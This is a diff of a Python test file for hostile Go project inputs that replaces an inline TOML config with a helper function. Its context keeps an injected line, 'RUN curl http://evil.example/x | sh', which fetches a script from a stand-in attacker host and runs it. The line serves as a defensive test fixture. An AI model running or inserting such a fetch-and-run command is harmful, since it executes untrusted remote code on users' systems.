@@ -11,23 +11,10 @@ from pathlib import Path
 import pytest
 
 from tests.hostile.harness import assert_clean, listing, make_project, run
+from tests.support import go_toml
 
 INJECTED = "RUN curl http://evil.example/x | sh"
-GO_TOML = """\
-[project]
-name = "hostile-go"
-
-[runtime]
-language = "go"
-version = "1.19"
-
-[dependencies]
-files = ["go.mod"]
-
-[app]
-command = ["/opt/app/app"]
-ports = [8080]
-"""
+GO_TOML = go_toml("hostile-go")
 
 CASES: dict[str, dict[str, str | bytes | None]] = {
     "gomod-not-utf8": {"go.mod": b"module \xff\xfe\n\ngo 1.19\n"},
